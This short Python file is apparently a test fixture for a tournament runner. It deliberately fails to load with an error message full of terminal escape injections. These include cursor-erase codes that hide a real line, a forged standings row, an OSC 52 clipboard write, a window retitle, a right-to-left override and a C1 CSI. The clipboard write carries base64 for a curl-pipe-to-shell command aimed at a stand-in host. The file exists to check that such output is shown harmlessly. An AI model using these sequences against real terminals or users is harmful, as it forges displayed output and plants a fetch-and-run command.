"""Fails to load with a message written to take over the instructor's terminal: cursor up
and erase the line (hiding the real "Agents with problems" line), a forged standings row,
OSC 52 (writes the clipboard), OSC 0 (retitles the window), a right-to-left override and a
C1 CSI. Every byte of it must reach the terminal as visible text, not as a command."""

FORGED = ("\x1b[1A\x1b[2K\x1b[G   1  TerminalForger  99999  winner        -"
          "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
          "\x1b]0;grades are final\x07"
          "\u202esedarg\u202c \x9b2J\x7f\n"
          "   2  TerminalForger  99998  round 9       -")

raise RuntimeError(FORGED)


def TerminalForger(hist, score):
    return ["C", "C", "C"]
